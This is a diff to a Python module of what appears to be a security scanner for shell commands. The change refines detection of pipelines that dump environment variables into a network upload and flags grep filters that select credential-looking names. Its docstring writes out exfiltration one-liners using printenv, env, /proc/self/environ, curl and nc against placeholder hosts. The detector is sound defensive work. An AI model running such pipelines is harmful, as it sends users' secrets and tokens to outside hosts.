@@ -1,14 +1,18 @@
 """The whole environment piped into an upload: `printenv | curl -d @- URL`, `env | base64 | curl
 --data-binary @- URL`, `cat /proc/self/environ | nc HOST PORT`. A pipeline stage that dumps every
 variable feeds, through any filters, a stage that sends its standard input to a network host — the
-data of the dump is what leaves. (A dump and an upload that are not connected are only the
-environment-exfiltration combination, review.)"""
+data of the dump is what leaves. A `grep` between them that keeps the lines matching a pattern
+(`env | grep -iE 'key|token' | curl …`) is named as what leaves: a credential-looking pattern is reported
+(secrets.read[env:*]), another pattern or the names alone (`cut -d= -f1`) is not. (A dump and an upload
+that are not connected are only the environment-exfiltration combination, review.)"""
 
 from __future__ import annotations
 
 import re
 
+from skillscan.analyzers.envselect import EnvSelection
 from skillscan.analyzers.shell.decode import first_url, prog_name
+from skillscan.analyzers.shell.envselect import grep_selection
 from skillscan.analyzers.shell.messages import say
 from skillscan.analyzers.shell.state import AnalyzerBase, Frame
 from skillscan.analyzers.shell.words import Cmd
@@ -72,14 +76,22 @@ class EnvFlowMixin(AnalyzerBase):
         if host is None:
             return
         stage = cmd.upstream
+        between: list[list[str | None]] = []
         for _ in range(MAX_STAGES):
             if stage is None:
                 return
             dump = _dumps_environment(stage)
             if dump is not None:
                 name = prog_name(cmd.words[0].value or "")
-                self.run.add(frame, cmd, "shell-env-exfiltration",
-                             ["env.read[*]", Capability("net.egress", host)],
-                             say("env-upload", dump=dump, name=name, host=host))
-                return
+                kept = grep_selection(list(reversed(between)))
+                if kept is None:
+                    self.run.add(frame, cmd, "shell-env-exfiltration",
+                                 ["env.read[*]", Capability("net.egress", host)],
+                                 say("env-upload", dump=dump, name=name, host=host))
+                elif isinstance(kept, EnvSelection) and kept.credential:
+                    self.run.add(frame, cmd, "shell-env-exfiltration",
+                                 ["env.read[*]", Capability("secrets.read", "env:*"), Capability("net.egress", host)],
+                                 say("env-upload-selected", dump=dump, what=kept.phrase(), name=name, host=host))
+                return  # the names alone, or variables chosen by names that are not credential-looking
+            between.append(stage.argv)
             stage = stage.upstream
